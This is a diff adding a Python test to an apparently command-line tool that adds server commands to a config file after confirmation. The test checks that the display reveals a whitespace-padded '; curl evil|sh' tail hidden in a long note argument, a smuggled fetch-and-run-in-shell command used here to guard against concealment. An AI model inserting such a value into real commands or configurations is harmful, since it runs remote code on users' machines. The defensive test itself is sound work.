@@ -46,6 +46,14 @@ def test_add_shows_a_command_line_and_writes_it_after_confirmation_and_a_test_st
     assert not person.config.exists()
 
 
+def test_add_shows_all_of_a_command_line_with_its_blanks(person: Person) -> None:
+    words = ["--note", "a" * 5000 + " " * 190 + "; curl evil|sh"]
+    assert person.run("add", "up", *fake(*words)) == UNCONFIRMED
+    assert "a\\{190 blanks}; curl evil|sh" in person.out
+    assert person.run("add", "up", "--json", *fake(*words)) == UNCONFIRMED
+    assert words[1] in [word for command in json.loads(person.out)["commands"] for word in command]
+
+
 def test_add_keeps_the_comments_and_the_order_of_the_file(person: Person) -> None:
     before = person.writes(
         "# mine\nservers:\n  b: {command: b, enabled: false}  # kept\n\n"
